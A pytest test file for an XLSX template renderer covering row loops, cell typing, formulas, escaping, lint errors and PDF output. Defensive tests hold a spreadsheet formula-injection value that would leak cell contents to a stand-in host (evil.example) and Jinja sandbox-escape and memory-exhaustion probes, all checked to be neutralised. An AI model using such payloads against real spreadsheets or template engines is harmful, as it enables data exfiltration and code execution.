"""XLSX templates: cells and row loops rendered with openpyxl, read back with openpyxl and LibreOffice."""

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from docg.common.errors import DocgError
from docg.documents import lint as template_lint
from docg.documents import placeholders
from docg.documents.rendering.errors import step_error
from docg.documents.rendering.xlsx import MAX_LOOP_ROWS, render_xlsx
from docg.documents.tests import corpus
from docg.documents.tests.test_pdf import pdf_text


def _book(package: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(package))


def _values(sheet) -> dict[str, object]:
    return {c.coordinate: c.value for row in sheet.iter_rows() for c in row if c.value is not None}


def _render_cells(cells: dict, data: dict, formats: dict | None = None):
    return _book(render_xlsx(corpus.xlsx_with(cells, formats=formats), data))["Prices"]


def _lint(package: bytes) -> list[dict]:
    return template_lint.lint(placeholders.analyse(io.BytesIO(package), "xlsx"))


@pytest.fixture(scope="module")
def rendered() -> bytes:
    return render_xlsx(corpus.price_sheet_xlsx(), corpus.price_sheet_data())


def test_the_item_row_repeats_once_per_item_and_the_marker_rows_go(rendered):
    prices = _book(rendered)["Prices"]
    assert prices["A1"].value == "Proposal P-2026-7 for Padaria Pão & Cia"
    assert prices["A1"].font.bold  # the cell keeps its formatting
    assert [prices[f"A{r}"].value for r in range(3, 8)] == ["Item", "Consultoria", "Suporte <24h>", "Licença", "Total"]
    assert not any("{" in str(v) for v in _values(prices).values())
    assert [prices.row_dimensions[r].height for r in (4, 5, 6)] == [24, 24, 24]


def test_a_cell_that_is_one_expression_keeps_the_values_type_and_the_cells_number_format(rendered):
    prices = _book(rendered)["Prices"]
    assert (prices["B4"].value, prices["B4"].data_type) == (2, "n")
    assert prices["C4"].value == 1500.25 and prices["C4"].number_format == "#,##0.00"
    # Text that reads as a number in a number-formatted cell is a number; an ISO date in a date cell a date.
    assert prices["C6"].value == Decimal("99.5") or prices["C6"].value == 99.5
    assert prices["C6"].data_type == "n"
    assert prices["B8"].value == datetime(2026, 11, 24) and prices["B8"].number_format == "dd/mm/yyyy"


def test_formulas_follow_their_rows_and_the_total_covers_every_item(rendered):
    book = _book(rendered)
    prices, summary = book["Prices"], book["Summary"]
    assert [prices[f"D{r}"].value for r in (4, 5, 6)] == ["=B4*C4", "=B5*C5", "=B6*C6"]
    assert prices["D7"].value == "=SUM(D4:D6)"
    assert summary["B1"].value == "=Prices!D7"
    assert summary["B2"].value == "=COUNT(Prices!B4:B6)"


def test_rows_below_a_loop_move_with_their_merged_cells():
    data = {**corpus.price_sheet_data(), "items": corpus.price_sheet_data()["items"] * 3}  # 9 rows for 3
    prices = _book(render_xlsx(corpus.price_sheet_xlsx(), data))["Prices"]
    assert prices["A13"].value == "Total" and prices["D13"].value == "=SUM(D4:D12)"
    assert prices["A15"].value == "Valid for 30 days"
    assert [str(r) for r in prices.merged_cells.ranges] == ["A15:D15"]
    assert prices["B14"].value == datetime(2026, 11, 24)
    # The PDF prints every row, and the named range covers every amount.
    assert prices.print_area == "'Prices'!$A$1:$D$15" and prices.print_title_rows == "$3:$3"
    book = _book(render_xlsx(corpus.price_sheet_xlsx(), data))
    assert book.defined_names["Amounts"].attr_text == "Prices!$D$4:$D$12"


def test_tables_pictures_and_conditional_formats_follow_the_rows():
    from openpyxl.drawing.image import Image
    from openpyxl.formatting.rule import CellIsRule
    from openpyxl.styles import Font
    from openpyxl.worksheet.table import Table

    from docg.documents.rendering.samples import sample_png

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Prices"
    sheet["A3"], sheet["B3"] = "Item", "Amount"
    sheet["A4"] = "{%tr for item in items %}"
    sheet["A5"], sheet["B5"] = "{{ item.name }}", "{{ item.amount }}"
    sheet["A6"] = "{%tr endfor %}"
    sheet["A7"], sheet["B7"] = "Total", "=SUM(B4:B6)"
    sheet.add_table(Table(displayName="Items", ref="A3:B6"))
    sheet.auto_filter.ref = "A3:B6"
    logo = Image(io.BytesIO(sample_png()))
    logo.anchor = "A9"
    sheet.add_image(logo)
    sheet.conditional_formatting.add("B5:B7", CellIsRule(operator="greaterThan", formula=["100"], font=Font(b=True)))
    buffer = io.BytesIO()
    workbook.save(buffer)
    items = [{"name": n, "amount": a} for n, a in (("a", 50), ("b", 150), ("c", 10), ("d", 500))]
    out = _book(render_xlsx(buffer.getvalue(), {"items": items}))["Prices"]
    assert out["B8"].value == "=SUM(B4:B7)"
    assert out.tables["Items"].ref == "A3:B7"
    assert out._images[0].anchor._from.row == 9  # row 10, counted from 0: one row lower than A9
    [rules] = list(out.conditional_formatting)
    assert str(rules.sqref) == "B4:B8"


def test_a_loop_over_an_empty_list_removes_its_rows_and_the_total_reads_zero():
    book = _book(render_xlsx(corpus.price_sheet_xlsx(), {**corpus.price_sheet_data(), "items": []}))
    prices = book["Prices"]
    assert prices["A4"].value == "Total" and prices["D4"].value == "=SUM(0)"
    assert book["Summary"]["B1"].value == "=Prices!D4"
    assert book["Summary"]["B2"].value == "=COUNT(#REF!)"  # as Excel does when every row of the range is gone


def test_nested_row_loops_repeat_inside_each_item():
    template = corpus.xlsx_with(
        {
            "A1": "{%tr for group in groups %}",
            "A2": "{{ group.name }}",
            "A3": "{%tr for line in group.lines %}",
            "B4": "{{ line }}",
            "C4": "=B4*2",
            "A5": "{%tr endfor %}",
            "A6": "{%tr endfor %}",
            "A7": "end",
        }
    )
    sheet = _book(render_xlsx(template, {"groups": [{"name": "a", "lines": [1, 2]}, {"name": "b", "lines": [3]}]}))
    assert _values(sheet["Prices"]) == {
        "A1": "a",
        "B2": 1,
        "C2": "=B2*2",
        "B3": 2,
        "C3": "=B3*2",
        "A4": "b",
        "B5": 3,
        "C5": "=B5*2",
        "A6": "end",
    }


def test_mixed_text_stays_text_and_a_none_leaves_the_cell_empty():
    sheet = _render_cells(
        {"A1": "{{ n }} units", "A2": "{{ n|number('pt-br', 2) }}", "A3": "{{ missing_ok }}", "A4": "{{ flag }}"},
        {"n": 1234.5, "missing_ok": None, "flag": True},
    )
    assert sheet["A1"].value == "1234.5 units" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "1.234,50"
    assert sheet["A3"].value is None
    assert sheet["A4"].value == "True"


def test_numbers_longer_than_excel_keeps_stay_text():
    sheet = _render_cells(
        {"A1": "{{ card }}", "A2": "{{ id }}", "A3": "{{ small }}"},
        {"card": 4111111111111111, "id": "12345678901234567", "small": "123456789012345"},
        formats={"A2": "0", "A3": "0"},
    )
    assert sheet["A1"].value == "4111111111111111" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "12345678901234567" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == 123456789012345


def test_text_in_a_general_cell_stays_text_even_when_it_looks_like_a_number():
    sheet = _render_cells({"A1": "{{ zip }}", "A2": "{{ day }}"}, {"zip": "01310", "day": "2026-11-24"})
    assert sheet["A1"].value == "01310" and sheet["A2"].value == "2026-11-24"


def test_a_value_that_looks_like_a_formula_stays_text():
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    package = render_xlsx(corpus.xlsx_with({"A1": "{{ name }}", "A2": "=1+1"}), {"name": hostile})
    sheet = _book(package)["Prices"]
    assert (sheet["A1"].value, sheet["A1"].data_type) == (hostile, "s")
    assert sheet["A2"].data_type == "f"
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode().split('r="A2"')[0]


@pytest.mark.parametrize("control", ["\x01", "\x0b", "\x07", "\x0c", "\x1f"])
def test_a_control_character_in_data_neither_corrupts_nor_fails_the_sheet(control):
    package = render_xlsx(corpus.xlsx_with({"A1": "{{ v }}", "A2": "a & b < c > d"}), {"v": f"R&D{control}<ok>"})
    sheet = _book(package)["Prices"]
    assert sheet["A1"].value in ("R&D<ok>", "R&D\n<ok>")
    assert sheet["A2"].value == "a & b < c > d"


def test_ampersands_and_angle_brackets_are_escaped_in_the_cells_strings(tmp_path):
    from docg.documents.tests.render_helpers import libreoffice_text

    package = render_xlsx(corpus.xlsx_with({"A1": "{{ v }} & {{ 'Tom & Jerry' }}"}), {"v": "<b>R&D</b>"})
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        strings = z.read("xl/worksheets/sheet1.xml").decode()  # openpyxl writes strings inline (no sharedStrings)
    assert "<t>&lt;b&gt;R&amp;D&lt;/b&gt; &amp; Tom &amp; Jerry</t>" in strings
    assert _book(package)["Prices"]["A1"].value == "<b>R&D</b> & Tom & Jerry"
    assert "<b>R&D</b> & Tom & Jerry" in libreoffice_text(package, ".xlsx", tmp_path)


def test_typographic_quotes_in_tags_render():
    sheet = _render_cells(
        {"A1": "{{ due|date(\u201cdd/MM/yyyy\u201d) }}", "A2": "{{ name|default(\u2018-\u2019) }}"},
        {"due": "2026-11-24"},
    )
    assert sheet["A1"].value == "24/11/2026" and sheet["A2"].value == "-"


def test_a_rich_text_cell_with_a_split_tag_renders_whole():
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    workbook = openpyxl.Workbook()
    workbook.active.title = "Prices"
    workbook.active["A1"] = CellRichText("Dear {{ cus", TextBlock(InlineFont(b=True), "tomer }}"), "!")
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert _book(render_xlsx(buffer.getvalue(), {"customer": "Ann"}))["Prices"]["A1"].value == "Dear Ann!"


def _with_margins(header: str, footer: str = "") -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Prices"
    sheet["A1"] = "Body"
    sheet.oddHeader.center.text = header
    sheet.oddHeader.center.font = "Arial,Bold"
    if footer:
        sheet.oddFooter.right.text = footer
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_page_headers_and_footers_are_rendered_with_their_codes_kept(tmp_path):
    from docg.documents.tests.render_helpers import libreoffice_text

    package = render_xlsx(
        _with_margins("Proposal {{ number }} - R&&D", "{{ customer }} page &P"), {"number": 7, "customer": "A & B"}
    )
    sheet = _book(package)["Prices"]
    assert sheet.oddHeader.center.text == "Proposal 7 - R&&D" and sheet.oddHeader.center.font == "Arial,Bold"
    assert sheet.oddFooter.right.text == "A && B page &P"
    text = libreoffice_text(package, ".xlsx", tmp_path)
    assert "Proposal 7 - R&D" in text and "A & B page 1" in text


def test_a_header_is_detected_linted_and_located():
    package = _with_margins("Proposal {{ number }}", "{{ customer ")
    found = placeholders.variables(placeholders.placeholders(placeholders.analyse(io.BytesIO(package), "xlsx")))
    assert found[0]["name"] == "number" and found[0]["locations"][0]["cell"] == "header"
    [error] = _lint(package)
    assert template_lint.describe_location(error["location"]) == "Prices footer"
    with pytest.raises(DocgError) as caught:
        render_xlsx(_with_margins("{{ number }}"), {})
    assert caught.value.details["location"]["cell"] == "header"
    assert "Prices header" in step_error(caught.value, language="en").message


def test_missing_data_names_the_sheet_and_cell():
    with pytest.raises(DocgError) as caught:
        render_xlsx(corpus.price_sheet_xlsx(), {**corpus.price_sheet_data(), "items": [{"name": "x", "qty": 1}]})
    error = caught.value
    assert error.code == "data.unresolved_variables"
    assert error.details["location"] == {
        "part": "sheet",
        "sheet": "Prices",
        "cell": "C5",
        "text": "{{ item.price }}",
    }
    assert "Prices!C5" in step_error(error, language="en", node="Prices").message


def test_the_sandbox_applies_to_cells_and_loops():
    for cells in (
        {"A1": "{{ ''.__class__.__mro__ }}"},
        {"A1": "{%tr for x in ''.__class__.__mro__ %}", "A2": "{%tr endfor %}"},
    ):
        with pytest.raises(DocgError) as caught:
            render_xlsx(corpus.xlsx_with(cells), {})
        assert caught.value.code == "template.forbidden"
    with pytest.raises(DocgError) as caught:
        render_xlsx(corpus.xlsx_with({"A1": "{{ 'a'.ljust(10**8) }}"}), {})
    assert caught.value.code in ("template.forbidden", "template.render_failed")


def test_a_loop_producing_too_many_rows_is_refused():
    template = corpus.xlsx_with({"A1": "{%tr for i in items %}", "A2": "{{ i }}", "A3": "{%tr endfor %}"})
    with pytest.raises(DocgError) as caught:
        render_xlsx(template, {"items": list(range(MAX_LOOP_ROWS + 1))})
    assert caught.value.code == "template.render_failed" and caught.value.details["location"]["cell"] == "A1"


def test_the_syntax_references_examples_for_spreadsheets_render_as_documented():
    from docg.documents.rendering.syntax import REFERENCE

    checked = 0
    for entry in REFERENCE:
        for example in (entry.en, entry.pt_br) if "xlsx" in entry.formats else ():
            if example.result and "{%tr" not in example.template:
                value = _render_cells({"A1": example.template}, example.data)["A1"].value
                assert example.result in str(value).replace("\xa0", " ").strip(), (entry.name, example.template)
                checked += 1
    assert checked >= 10


# --- lint and detection -------------------------------------------------------------------------


def test_an_unclosed_tag_is_a_lint_error_at_its_sheet_and_cell():
    [error] = _lint(corpus.xlsx_with({"A1": "Title", "B4": "Total {{ total "}))
    assert error["code"] == "template.malformed_tag"
    assert error["location"]["sheet"] == "Prices" and error["location"]["cell"] == "B4"
    assert template_lint.describe_location(error["location"]) == "Prices!B4"


def test_row_loop_mistakes_are_lint_errors_with_their_cells():
    errors = _lint(
        corpus.xlsx_with(
            {
                "A2": "{%tr for a in items %}",
                "B2": "{%tr endfor %}",
                "A5": "{%tr for b in more %}",
                "C9": "{{ x|money }}",
            }
        )
    )
    where = {(e["location"]["cell"], e["code"]) for e in errors}
    assert ("A2", "template.syntax_error") in where  # for and endfor in one row
    assert ("A5", "template.syntax_error") in where  # never closed
    assert ("C9", "template.unknown_filter") in where
    for cells in ({"A2": "{%tr for a in items %}", "B2": "{%tr endfor %}"}, {"A5": "{%tr for b in more %}"}):
        with pytest.raises(DocgError) as caught:
            render_xlsx(corpus.xlsx_with(cells), {"items": [], "more": []})
        assert caught.value.code == "template.syntax_error"


def test_word_only_helpers_are_lint_errors_in_a_sheet():
    [error] = _lint(corpus.xlsx_with({"A1": "{{ image(logo, 20) }}"}))
    assert "Word templates only" in error["message"] and error["location"]["cell"] == "A1"


def test_a_sheet_with_quotes_in_its_name_is_located_as_excel_writes_it():
    [error] = _lint(corpus.xlsx_with({"A1": "{% if x %}"}, sheet="Preços 2026"))
    assert template_lint.describe_location(error["location"]) == "'Preços 2026'!A1"


def test_detection_finds_inputs_and_leaves_row_loop_items_out():
    analysis = placeholders.analyse(io.BytesIO(corpus.price_sheet_xlsx()), "xlsx")
    variables = placeholders.variables(placeholders.placeholders(analysis))
    names = {v["name"]: v["locations"] for v in variables}
    assert set(names) == {"customer.name", "due", "items", "note", "number"}
    assert names["items"] == [{"part": "sheet", "sheet": "Prices", "cell": "A4", "text": "{%tr for item in items %}"}]
    assert _lint(corpus.price_sheet_xlsx()) == []


def test_preflight_detection_reads_the_same_inputs():
    from docg.documents.rendering.variables import template_placeholders

    found = {(p.name, p.part) for p in template_placeholders("xlsx", corpus.price_sheet_xlsx())}
    assert found == {
        ("number", "Prices!A1"),
        ("customer.name", "Prices!A1"),
        ("items", "Prices!A4"),
        ("due", "Prices!B8"),
        ("note", "Prices!A9"),
    }


# --- PDF ------------------------------------------------------------------------------------------


def test_the_rendered_sheet_becomes_a_pdf_with_recalculated_totals(rendered):
    from docg.documents.pdf import convert_to_pdf

    text = pdf_text(convert_to_pdf(rendered, "proposal.xlsx"))
    assert "Proposal P-2026-7 for Padaria Pão & Cia" in text
    assert "Suporte <24h>" in text
    # 2 * 1500.25 + 3 * 400 + 1 * 99.5, computed by Calc from the formulas.
    assert "3,000.50" in text and "4,300.00" in text
    assert "Total 4,300.00 Items 3 Named 4300" in text  # the summary reads the total and the named range
    assert "24/11/2026" in text


def _with_stale_result() -> bytes:
    """A sheet whose formula =A1*A2 (6) carries a stale cached result, 999, as a file saved elsewhere may."""
    package = corpus.xlsx_with({"A1": 2, "A2": 3, "A3": "=A1*A2"})
    return corpus.transform(
        package, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<f>A1*A2</f><v></v>", b"<f>A1*A2</f><v>999</v>")
    )


def test_libreoffice_recalculates_formulas_instead_of_printing_cached_results(tmp_path):
    from docg.documents.pdf import PdfConverter, convert_to_pdf

    stale = _with_stale_result()
    assert b"<v>999</v>" in zipfile.ZipFile(io.BytesIO(stale)).read("xl/worksheets/sheet1.xml")
    assert pdf_text(convert_to_pdf(stale, "stale.xlsx")).split() == ["2", "3", "6"]
    # The cold fallback (a fresh soffice per document) recalculates too.
    pool = PdfConverter(size=1)
    try:
        source = tmp_path / "stale.xlsx"
        source.write_bytes(stale)
        assert pdf_text(pool._convert_cold(source, tmp_path / "out", 120).read_bytes()).split() == ["2", "3", "6"]
    finally:
        pool.close()


def test_dates_in_the_pdf_use_the_template_cells_format():
    package = render_xlsx(
        corpus.xlsx_with({"A1": "{{ due }}", "A2": "{{ when }}"}, formats={"A1": "dd/mm/yyyy", "A2": "yyyy-mm-dd"}),
        {"due": "2026-11-24", "when": date(2027, 1, 2)},
    )
    sheet = _book(package)["Prices"]
    assert sheet["A1"].is_date and sheet["A2"].is_date
